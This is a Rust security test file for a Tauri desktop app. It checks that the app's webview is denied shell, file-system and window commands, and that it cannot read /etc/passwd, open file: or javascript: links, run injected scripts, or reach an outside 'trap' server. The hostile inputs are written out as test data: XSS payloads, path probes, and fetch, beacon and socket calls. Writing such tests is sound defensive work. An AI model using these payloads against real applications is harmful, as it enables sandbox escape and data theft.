//! What the window must never be able to do, tried from inside it.

use std::time::Duration;

use pupitre_tests::desktop::run;
use pupitre_tests::fakes::Trap;
use serde_json::json;

use crate::brand;

/// Commands of Tauri and its plugins, those that are built in among them.
const DENIED: &[&str] = &[
    "greet",
    "plugin:app|version",
    "plugin:app|app_hide",
    "plugin:autostart|disable",
    "plugin:autostart|enable",
    "plugin:dialog|message",
    "plugin:dialog|open",
    "plugin:dialog|save",
    "plugin:event|emit",
    "plugin:event|emit_to",
    "plugin:fs|read_text_file",
    "plugin:image|from_path",
    "plugin:menu|new",
    "plugin:notification|notify",
    "plugin:opener|open_path",
    "plugin:opener|open_url",
    "plugin:opener|reveal_item_in_dir",
    "plugin:path|resolve_directory",
    "plugin:process|exit",
    "plugin:resources|close",
    "plugin:shell|execute",
    "plugin:shell|open",
    "plugin:tray|new",
    "plugin:tray|remove_by_id",
    "plugin:webview|create_webview",
    "plugin:webview|create_webview_window",
    "plugin:webview|internal_toggle_devtools",
    "plugin:webview|get_all_webviews",
    "plugin:window|close",
    "plugin:window|create",
    "plugin:window|destroy",
    "plugin:window|get_all_windows",
    "plugin:window|set_title",
];

#[test]
fn no_command_but_its_own() {
    run("denied", "en_GB.UTF-8", |computer| async move {
        let window = computer.open().await;
        let page = &window.page;
        let mut open = Vec::new();
        for command in DENIED {
            let arguments = json!({"label": "main", "options": {"label": "second", "url": "index.html"}, "url": "https://example.com",
                "path": "/etc/passwd", "event": "pupitre:event", "target": {"kind": "Any"}, "payload": null, "directory": 1});
            let answer = page.invoke(command, arguments).await;
            let refusal = answer["error"].as_str().unwrap_or_default();
            if !(refusal.contains("not allowed") || refusal.contains("not found")) {
                open.push(format!("{command}: {answer}"));
            }
        }
        assert!(open.is_empty(), "not denied:\n{}", open.join("\n"));
        // Its own command hands out nothing that takes a path, and nothing unheard of.
        let target = computer.data().join("stolen.tar");
        for (method, params) in [
            ("visuals_import", json!({"brand": null, "paths": ["/etc/passwd"]})),
            ("backups_create", json!({"path": target})),
            ("backups_restore", json!({"path": target})),
            ("host_read_file", json!({"path": "/etc/passwd"})),
            ("toString", json!({})),
            ("", json!({})),
        ] {
            let answer = page.rpc(method, params).await;
            assert_eq!(answer["error"]["code"], json!("notFound"), "{method}: {answer}");
        }
        assert!(!target.exists());
        // The system opens web and mail addresses only.
        for url in ["file:///etc/passwd", "javascript:alert(1)", "smb://x/y", "https://", "vscode://x", "/etc/passwd"] {
            let answer = page.rpc("host_open_link", json!({"url": url})).await;
            assert!(answer["error"].is_object(), "{url}: {answer}");
        }
        assert_eq!(page.rpc("settings_get", json!({})).await["error"], json!(null), "the window still works");
        assert_eq!(computer.screen().windows().len(), 1);
    });
}

#[test]
fn no_other_page_no_other_origin_no_foreign_script() {
    run("closed", "en_GB.UTF-8", |computer| async move {
        let trap = Trap::start().await;
        brand(&computer, "Moonlight Bakery");
        let window = computer.open().await;
        let page = &window.page;
        let home = page.value("location.origin").await;
        let at = trap.url();
        for (what, body) in [
            ("assign", "location.assign(arguments[0] + '/assign')"),
            ("example.com", "location.href = 'https://example.com/'"),
            ("data page", "location.href = 'data:text/html,<script>fetch(\"' + arguments[0] + '/data\")</script>'"),
            ("file page", "location.href = 'file:///etc/passwd'"),
            ("javascript page", "location.href = 'javascript:window.__pwned=1'"),
            (
                "link",
                "const a = document.createElement('a'); a.href = arguments[0] + '/link'; a.target = '_blank'; document.body.append(a); a.click(); a.remove()",
            ),
            (
                "link here",
                "const a = document.createElement('a'); a.href = arguments[0] + '/here'; document.body.append(a); a.click(); a.remove()",
            ),
            (
                "form",
                "const f = document.createElement('form'); f.action = arguments[0] + '/form'; document.body.append(f); f.submit(); f.remove()",
            ),
            (
                "refresh",
                "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + arguments[0] + '/refresh'; document.head.append(m)",
            ),
            (
                "base",
                "const b = document.createElement('base'); b.href = arguments[0] + '/'; document.head.append(b); b.remove()",
            ),
            (
                "frame",
                "const i = document.createElement('iframe'); i.src = arguments[0] + '/frame'; document.body.append(i)",
            ),
            (
                "frame of text",
                "const i = document.createElement('iframe'); i.srcdoc = '<script>parent.__pwned=1</script>'; document.body.append(i)",
            ),
            (
                "object",
                "const o = document.createElement('object'); o.data = arguments[0] + '/object'; document.body.append(o)",
            ),
            ("image", "new Image().src = arguments[0] + '/image'"),
            (
                "style",
                "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = arguments[0] + '/style'; document.head.append(l)",
            ),
            (
                "prefetch",
                "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = arguments[0] + '/prefetch'; document.head.append(l)",
            ),
            (
                "script",
                "const s = document.createElement('script'); s.src = arguments[0] + '/script.js'; document.head.append(s)",
            ),
            (
                "inline script",
                "const s = document.createElement('script'); s.textContent = 'window.__pwned = 1'; document.head.append(s)",
            ),
            (
                "handler",
                "const d = document.createElement('div'); d.innerHTML = '<img src=x onerror=\"window.__pwned=1\">'; document.body.append(d)",
            ),
            (
                "data script",
                "const s = document.createElement('script'); s.src = 'data:text/javascript,window.__pwned=1'; document.head.append(s)",
            ),
            ("fetch", "fetch(arguments[0] + '/fetch').catch(() => 0)"),
            ("beacon", "try { navigator.sendBeacon(arguments[0] + '/beacon', 'x') } catch (e) {}"),
            ("socket", "try { new WebSocket(arguments[0].replace('http', 'ws') + '/socket') } catch (e) {}"),
            ("events", "try { new EventSource(arguments[0] + '/events') } catch (e) {}"),
            ("worker", "try { new Worker(arguments[0] + '/worker.js') } catch (e) {}"),
            (
                "sound",
                "const a = document.createElement('audio'); a.src = arguments[0] + '/sound'; document.body.append(a); a.load()",
            ),
        ] {
            page.js(body, vec![json!(at)]).await;
            let origin = page.value("location.origin").await;
            assert_eq!(origin, home, "{what} left the application");
        }
        assert_eq!(page.js("return window.open(arguments[0] + '/popup') === null", vec![json!(at)]).await, json!(true));
        // Work of the application itself goes through in the meantime, so what was to happen has happened.
        for _ in 0..5 {
            assert_eq!(page.rpc("brands_list", json!({})).await[0]["name"], json!("Moonlight Bakery"));
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        assert_eq!(page.value("window.__pwned ?? null").await, json!(null), "foreign script ran");
        let visits: Vec<_> = trap.visits().into_iter().map(|seen| seen.path).collect();
        assert!(visits.is_empty(), "{visits:?}");
        assert_eq!(page.value("location.origin").await, home);
        assert_eq!(computer.screen().windows().len(), 1, "no second window");
    });
}
